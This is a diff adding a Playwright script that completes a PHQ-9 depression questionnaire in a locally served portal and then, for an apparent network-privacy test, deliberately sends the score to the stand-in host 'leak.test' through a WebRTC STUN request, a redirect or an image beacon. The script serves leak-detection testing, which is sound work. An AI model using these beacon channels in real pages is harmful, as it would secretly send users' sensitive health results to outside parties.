@@ -1,0 +1,40 @@
+// node journey.ts clean|webrtc|navigation|image: one sitting in a real browser, for packets.test.ts.
+import { chromium } from '@playwright/test';
+import config from '../playwright.config.ts';
+import { createPortalServer } from '../../scripts/serve/server.ts';
+import { dist } from '../pages.ts';
+import { answerAll, start } from '../e2e/take.ts';
+
+const leak = process.argv[2];
+const server = createPortalServer({ folder: dist, base: '/' });
+await new Promise<void>((resolve) => server.listen(4333, '127.0.0.1', resolve));
+const { executablePath, args = [] } = config.use?.launchOptions ?? {};
+const browser = await chromium.launch({
+  ...(executablePath ? { executablePath } : {}),
+  args: [...args, '--disable-background-networking', '--disable-component-update'],
+});
+const page = await browser.newPage();
+await page.goto('http://127.0.0.1:4333/assessments/phq-9/');
+await start(page, '18–59 岁');
+await answerAll(page, [3, 2, 1, 0, 3, 2, 1, 0, 3]);
+await page.locator('.player-result').waitFor();
+
+if (leak === 'webrtc')
+  await page.evaluate(async () => {
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:score-21.leak.test:3478' }] });
+    peer.createDataChannel('x');
+    await peer.setLocalDescription(await peer.createOffer());
+  });
+if (leak === 'navigation')
+  await page
+    .evaluate(() => {
+      window.location.href = 'http://score-21.leak.test/';
+    })
+    .catch(() => undefined);
+if (leak === 'image')
+  await page.evaluate(() => {
+    new Image().src = 'http://score-21.leak.test/';
+  });
+await page.waitForTimeout(2000);
+await browser.close();
+server.close();
